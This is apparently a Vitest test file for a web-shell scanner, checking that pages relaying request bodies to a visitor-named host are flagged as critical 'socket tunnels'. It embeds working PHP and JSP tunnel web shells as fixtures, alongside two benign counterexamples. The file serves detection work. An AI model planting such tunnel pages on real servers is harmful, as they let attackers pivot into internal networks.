/**
 * Socket tunnels (issue 27, split v2 tuning side): a page that connects where the visitor
 * says and passes on the request's body.
 */
import { describe, expect, it } from 'vitest';
import { isAlarm, topFinding } from '../support/top-finding.js';

const PHP_TUNNEL = `<?php
$headers = apache_request_headers();
$target = $headers["X-TARGET"];
$port = (int) $headers["X-PORT"];
$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
@socket_connect($sock, $target, $port);
$raw = file_get_contents("php://input");
socket_write($sock, $raw);
`;

const JSP_TUNNEL = `<%@page import="java.nio.ByteBuffer, java.net.InetSocketAddress, java.nio.channels.SocketChannel"%><%
String target = request.getHeader("X-TARGET");
int port = Integer.parseInt(request.getHeader("X-PORT"));
SocketChannel ch = SocketChannel.open();
ch.connect(new InetSocketAddress(target, port));
byte[] buf = new byte[4096];
int n = request.getInputStream().read(buf);
ch.write(ByteBuffer.wrap(buf, 0, n));
%>`;

describe('socket tunnels', () => {
  it('ranks a page relaying its body to the host the visitor names critical', () => {
    for (const [path, text] of [
      ['/var/www/html/t.php', PHP_TUNNEL],
      ['/opt/tomcat/webapps/ROOT/t.jsp', JSP_TUNNEL],
    ] as const)
      expect(topFinding(path, text)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/socket tunnel/),
      });
  });

  it('does not alarm on a page relaying its body to a fixed service', () => {
    const spell = `<?php
$body = file_get_contents('php://input');
$fp = fsockopen('localhost', 1049, $errno, $errstr, 5);
fwrite($fp, "POST /checkDocument HTTP/1.0\\r\\n\\r\\n" . $body);
echo stream_get_contents($fp);
`;
    expect(isAlarm('/var/www/html/spell.php', spell)).toBe(false);
  });

  it('does not alarm on a page checking a port the visitor names, with no body passed on', () => {
    const check = `<?php
$host = $_GET['host'];
$fp = @fsockopen($host, 80, $errno, $errstr, 2);
echo $fp ? 'up' : 'down';
`;
    expect(isAlarm('/var/www/html/check.php', check)).toBe(false);
  });
});
